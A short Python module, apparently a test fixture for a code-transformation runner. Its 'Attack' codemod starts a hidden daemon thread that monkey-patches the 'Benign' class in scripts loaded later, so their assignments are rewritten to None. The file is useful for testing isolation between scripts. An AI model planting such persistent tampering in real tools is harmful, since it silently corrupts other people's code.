"""Leave a thread behind that waits until the next script is loaded, and changes its class before it is used."""

import sys
import threading

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def leave(self, original_node, updated_node):
    return updated_node.with_changes(value=cst.Name("None"))


def lurk():
    while True:
        for name, module in [*sys.modules.items()]:
            if name.startswith("autotransform_script_") and hasattr(module, "Benign"):
                module.Benign.leave_Assign = leave


def leave_behind():
    sys.setswitchinterval(1e-6)
    threading.Thread(target=lurk, daemon=True).start()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Lurk."

    def transform_module_impl(self, tree):
        leave_behind()
        return tree
